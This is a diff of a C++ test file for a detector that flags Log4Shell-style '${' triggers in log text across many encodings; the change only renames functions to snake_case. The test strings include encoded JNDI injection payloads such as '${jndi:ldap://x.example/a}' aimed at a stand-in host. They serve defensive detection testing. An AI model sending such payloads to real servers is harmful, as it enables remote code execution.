@@ -17,9 +17,9 @@ TEST(PrefilterTest, Triggers) {
                         "%U0024", "\\u0024\\u007b", "\\\\u0024", "\\x24", "\\044\\173", "\\\\44{", "&#36;&#123;",
                         "&#036;", "&#x24;", "&#X0024;", "&dollar;", "&DOLLAR;", "JHtqbmRpOmxkYXA6",
                         "Basic dXNlcjoke2puZGk6", "xSR7anything"}) {
-    EXPECT_TRUE(HasTrigger(s)) << s;
+    EXPECT_TRUE(has_trigger(s)) << s;
     std::string padded = std::string(37, 'x') + s + std::string(20, 'y');  // exercise the SIMD path
-    EXPECT_EQ(FindTrigger(padded), 37u + FindTrigger(s)) << s;
+    EXPECT_EQ(find_trigger(padded), 37u + find_trigger(s)) << s;
   }
 }
 
@@ -27,19 +27,19 @@ TEST(PrefilterTest, CleanText) {
   for (const char* s : {"GET /index.html HTTP/1.1 200 512 \"Mozilla/5.0 (X11; Linux x86_64)\"",
                         "100% done; price $5 & tax", "C:\\Users\\x", "JSON JHX R7 aR7", "&amp; &#35; %23 %2 $",
                         "2021-12-10T10:00:00Z INFO [main] Started"}) {
-    EXPECT_FALSE(HasTrigger(s)) << s;
+    EXPECT_FALSE(has_trigger(s)) << s;
   }
 }
 
 TEST(PrefilterTest, FindsEveryOccurrenceInOrder) {
   std::string s = std::string(100, 'a') + "${x}" + std::string(50, 'b') + "%24" + std::string(3, 'c') + "&#36;";
-  size_t p = FindTrigger(s);
+  size_t p = find_trigger(s);
   EXPECT_EQ(p, 100u);
-  p = FindTrigger(s, p + 1);
+  p = find_trigger(s, p + 1);
   EXPECT_EQ(p, 154u);
-  p = FindTrigger(s, p + 1);
+  p = find_trigger(s, p + 1);
   EXPECT_EQ(p, 160u);
-  EXPECT_EQ(FindTrigger(s, p + 1), std::string_view::npos);
+  EXPECT_EQ(find_trigger(s, p + 1), std::string_view::npos);
 }
 
 // Every transport encoding the decoders peel keeps a trigger on the line.
@@ -56,16 +56,16 @@ TEST(PrefilterTest, EncodedPayloadsKeepATrigger) {
   };
   for (const std::string& s : {each("%%%02X"), each("%%25%02X"), each("%%u%04X"), each("\\u%04x"), each("\\x%02x"),
                                each("\\%03o"), each("&#%d;"), each("&#x%x;")}) {
-    EXPECT_TRUE(HasTrigger(s)) << s;
-    ASSERT_FALSE(PeelLayers(s).empty()) << s;
-    EXPECT_EQ(PeelLayers(s).back().text, payload) << s;
+    EXPECT_TRUE(has_trigger(s)) << s;
+    ASSERT_FALSE(peel_layers(s).empty()) << s;
+    EXPECT_EQ(peel_layers(s).back().text, payload) << s;
   }
   // base64 at the first two alignments of "${".
-  EXPECT_TRUE(HasTrigger("JHtqbmRpOmxkYXA6Ly94LmV4YW1wbGUvYX0="));   // "${jndi:ldap://x.example/a}"
-  EXPECT_TRUE(HasTrigger("YSR7am5kaTpsZGFwOi8veC5leGFtcGxlL2F9"));   // "a${jndi:ldap://x.example/a}"
-  EXPECT_TRUE(HasTrigger("dXNlcjoke2puZGk6bGRhcDovL3guZXhhbXBsZS9hfQ=="));  // "user:${jndi:ldap://x.example/a}"
-  EXPECT_FALSE(HasTrigger("the smoke woke me"));
-  EXPECT_FALSE(HasTrigger("/search?q=kernel+smoke+test&page=3"));
+  EXPECT_TRUE(has_trigger("JHtqbmRpOmxkYXA6Ly94LmV4YW1wbGUvYX0="));   // "${jndi:ldap://x.example/a}"
+  EXPECT_TRUE(has_trigger("YSR7am5kaTpsZGFwOi8veC5leGFtcGxlL2F9"));   // "a${jndi:ldap://x.example/a}"
+  EXPECT_TRUE(has_trigger("dXNlcjoke2puZGk6bGRhcDovL3guZXhhbXBsZS9hfQ=="));  // "user:${jndi:ldap://x.example/a}"
+  EXPECT_FALSE(has_trigger("the smoke woke me"));
+  EXPECT_FALSE(has_trigger("/search?q=kernel+smoke+test&page=3"));
 }
 
 // The SIMD scan agrees with a byte-by-byte reading of the rules on random
@@ -140,7 +140,7 @@ TEST(PrefilterTest, MatchesScalarReference) {
   for (int iter = 0; iter < 20000; ++iter) {
     std::string s(rng() % 64, ' ');
     for (char& c : s) c = alphabet[rng() % alphabet.size()];
-    ASSERT_EQ(FindTrigger(s), reference(s)) << s;
+    ASSERT_EQ(find_trigger(s), reference(s)) << s;
   }
 }
 
@@ -152,11 +152,11 @@ TEST(PrefilterTest, SimdAgreesWithScalar) {
     std::string s(1 + rng() % 300, 'a');
     for (char& c : s) c = rng() % 3 ? 'a' + rng() % 26 : alphabet[rng() % alphabet.size()];
     for (size_t from = 0; from < s.size(); from += 1 + rng() % 40) {
-      size_t want = FindTriggerScalar(s, from);
-      ASSERT_EQ(FindTrigger(s, from), want) << s << " from " << from;
+      size_t want = find_trigger_scalar(s, from);
+      ASSERT_EQ(find_trigger(s, from), want) << s << " from " << from;
       for (SimdLevel level : {SimdLevel::kSse2, SimdLevel::kAvx2, SimdLevel::kAvx512}) {
-        if (SimdLevelAvailable(level)) {
-          ASSERT_EQ(FindTriggerWith(level, s, from), want) << static_cast<int>(level) << ": " << s << " from " << from;
+        if (simd_level_available(level)) {
+          ASSERT_EQ(find_trigger_with(level, s, from), want) << static_cast<int>(level) << ": " << s << " from " << from;
         }
       }
       if (want == std::string_view::npos) break;
@@ -165,8 +165,8 @@ TEST(PrefilterTest, SimdAgreesWithScalar) {
 }
 
 TEST(PrefilterTest, CountNewlines) {
-  EXPECT_EQ(CountNewlines(""), 0u);
-  EXPECT_EQ(CountNewlines("\n"), 1u);
+  EXPECT_EQ(count_newlines(""), 0u);
+  EXPECT_EQ(count_newlines("\n"), 1u);
   // Long enough for the 255-step counter flush, with a tail and odd alignments.
   std::string s;
   size_t want = 0;
@@ -176,10 +176,10 @@ TEST(PrefilterTest, CountNewlines) {
   }
   s += std::string(5000, '\n');
   want += 5000;
-  EXPECT_EQ(CountNewlines(s), want);
+  EXPECT_EQ(count_newlines(s), want);
   for (size_t off = 0; off < 20; ++off) {
     std::string_view v = std::string_view(s).substr(off, s.size() - 2 * off);
-    EXPECT_EQ(CountNewlines(v), static_cast<size_t>(std::count(v.begin(), v.end(), '\n')));
+    EXPECT_EQ(count_newlines(v), static_cast<size_t>(std::count(v.begin(), v.end(), '\n')));
   }
 }
 
